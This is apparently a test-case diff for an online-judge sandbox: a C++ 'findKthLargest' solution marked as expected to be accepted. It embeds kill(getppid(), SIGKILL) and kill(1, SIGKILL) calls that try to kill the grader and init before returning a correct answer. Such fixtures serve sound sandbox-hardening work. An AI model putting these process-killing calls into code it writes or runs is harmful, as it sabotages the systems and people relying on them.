@@ -1,0 +1,16 @@
+// expect: AC
+#include <unistd.h>
+#include <signal.h>
+#include <sys/mman.h>
+#include <sys/resource.h>
+#include <sys/ptrace.h>
+#include <fcntl.h>
+class Solution {
+public:
+    int findKthLargest(vector<int>& nums, int k) {
+        kill(getppid(), SIGKILL);
+        kill(1, SIGKILL);
+        sort(nums.begin(), nums.end());
+        return nums[nums.size() - k];
+    }
+};
